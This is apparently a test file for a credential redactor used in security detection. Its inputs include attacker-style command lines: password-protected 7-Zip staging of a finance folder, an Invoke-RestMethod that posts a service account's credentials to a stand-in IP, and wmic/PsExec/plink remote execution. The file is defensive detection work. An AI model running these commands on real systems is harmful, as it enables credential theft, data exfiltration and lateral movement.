/**
 * Edges of the readers the credential scanners share: the word reader (lambda/detect/secret-words.ts)
 * and the PowerShell readers (lambda/detect/secret-powershell.ts), seen through the one redactor
 * every notification field passes through (issue 21 survivors, list 17). Each case is what an
 * analyst reads: a password left in clear, or a harmless word hidden.
 *
 * Sources of the syntax:
 * - 7-Zip's `-p` switch takes the password joined to it (7-zip.org, "-p (set Password) switch"); the
 *   C runtime glues a quoted run to the word before it ("Parsing C command-line arguments",
 *   https://learn.microsoft.com/en-us/cpp/c-language/parsing-c-command-line-arguments).
 * - PowerShell ends a statement at `;` and a string on its own is written to the output (about_Parsing,
 *   https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_parsing),
 *   so a password holding `;` must be quoted there.
 * - Here-strings: `@'` / `@"` end their line, the value is the lines after it, `'@` / `"@` close it
 *   (about_Quoting_Rules, "Here-strings",
 *   https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_quoting_rules).
 * - `@"…"` on one line is C#'s verbatim string (https://learn.microsoft.com/en-us/dotnet/csharp/language-reference/tokens/verbatim),
 *   a habit C# developers carry into PowerShell, which rejects it; the text typed is still the password.
 * - Start-Process -ArgumentList takes "an array of strings separated by commas"
 *   (https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/start-process);
 *   plink's `-pw` (PuTTY manual, "Using the command-line connection tool Plink"), PsExec's `-p`
 *   (learn.microsoft.com, "PsExec"). Inside wmic's quoted CommandLine the inner quotes are `\"`.
 * - Advanced-function parameters with a default value: `param([string]$Password = "")` (about_Functions_Advanced_Parameters,
 *   https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_functions_advanced_parameters).
 */
import { describe, expect, it } from 'vitest';
import { redactSecrets, secretsIn } from '../../lambda/detect/redact.js';

describe('an archiver password argument: where it ends', () => {
  it('a quoted part ending in ; is glued to what follows: the whole password is hidden', () => {
    // PowerShell needs the ; quoted; 7-Zip reads `-p"Winter;"2026` as the password `Winter;2026`
    expect(redactSecrets('7z a -mhe=on -p"Winter;"2026 C:\\ProgramData\\q4.7z C:\\fin')).toBe('7z a -mhe=on -p*** C:\\ProgramData\\q4.7z C:\\fin');
  });

  it('an unquoted ; after the password ends the statement: the string after it stays readable', () => {
    expect(redactSecrets('7z a -mhe=on C:\\ProgramData\\q4.7z C:\\fin -pS3cret!x;"archived C:\\fin"'))
      .toBe('7z a -mhe=on C:\\ProgramData\\q4.7z C:\\fin -p***"archived C:\\fin"');
  });

  it('a password of several glued parts is hunted again as 7-Zip reads it, parts joined as typed', () => {
    const line = '7z.exe a -pSum"mer 20"25 C:\\ProgramData\\q4.7z C:\\fin & echo Summer 2025> C:\\fin\\pw.txt';
    expect(redactSecrets(line)).toBe('7z.exe a -p*** C:\\ProgramData\\q4.7z C:\\fin & echo ***> C:\\fin\\pw.txt');
    // the value other fields (the parent's command line, the decoded script) are searched for
    expect(secretsIn(line)).toEqual(['Summer 2025']);
  });
});

describe('$password = a here-string: its value, and what follows it', () => {
  it('an LF here-string: the password typed again later is hidden too', () => {
    // a script saved with LF line ends (PowerShell 7 on any platform, VS Code's default on Linux)
    expect(redactSecrets("$password = @'\nS3cret!x\n'@\nSet-Content -Path C:\\ProgramData\\p.txt -Value S3cret!x"))
      .toBe('$password = ***\nSet-Content -Path C:\\ProgramData\\p.txt -Value ***');
  });

  it('a two-line here-string keeps its inner line break: the same block written elsewhere is hidden', () => {
    const script = '$pass = @"\r\ncorp\\svc_backup\r\nS3cret!x\r\n"@\r\n'
      + 'Invoke-RestMethod -Uri https://198.51.100.7/c -Method Post -Body @"\r\ncorp\\svc_backup\r\nS3cret!x\r\n"@';
    expect(redactSecrets(script)).toBe('$pass = ***\r\nInvoke-RestMethod -Uri https://198.51.100.7/c -Method Post -Body @"\r\n***\r\n"@');
    expect(secretsIn(script)).toEqual(['corp\\svc_backup\r\nS3cret!x']);
  });

  it('a C#-style @"…" on one line hides the typed password and keeps the line break after it', () => {
    const next = "$cred = New-Object PSCredential('corp\\admin', (ConvertTo-SecureString $password -AsPlainText -Force))";
    expect(redactSecrets(`$password = @"S3cret!x"\n${next}`)).toBe(`$password = ***\n${next}`);
  });

  it('an empty default ("") is no here-string: the parameters after it stay readable', () => {
    const line = 'param([string]$Server = "db01", [string]$Password = "", [string]$User = "corp\\svc_sql")';
    expect(redactSecrets(line)).toBe(line);
  });
});

describe("Start-Process -ArgumentList: the element after a password switch", () => {
  it('hides the element after an escaped \\"-pw\\" inside a quoted wmic command line', () => {
    expect(redactSecrets('wmic /node:FS01 process call create "powershell -c Start-Process plink.exe -ArgumentList \\"-ssh\\",\\"root@10.0.0.9\\",\\"-pw\\",\\"S3cret!x\\""'))
      .toBe('wmic /node:FS01 process call create "powershell -c Start-Process plink.exe -ArgumentList \\"-ssh\\",\\"root@10.0.0.9\\",\\"-pw\\",***"');
  });

  it('a -p whose quote is not closed right after it is no element of its own: the element after it stays readable', () => {
    // a typo PowerShell rejects (the quotes do not pair), yet the line is what the analyst reads
    const line = "Start-Process psexec.exe -ArgumentList '\\\\fs01','-u','corp\\admin','-p\",'cmd.exe'";
    expect(redactSecrets(line)).toBe(line);
  });

  it('hides a bare password element too short to be hunted elsewhere', () => {
    // 3 characters: only the element's own span hides it (values under 4 are not hunted again)
    expect(redactSecrets('Start-Process psexec.exe -ArgumentList \\\\fs01,-accepteula,-u,corp\\admin,-p,Q7! -Wait'))
      .toBe('Start-Process psexec.exe -ArgumentList \\\\fs01,-accepteula,-u,corp\\admin,-p,*** -Wait');
  });
});
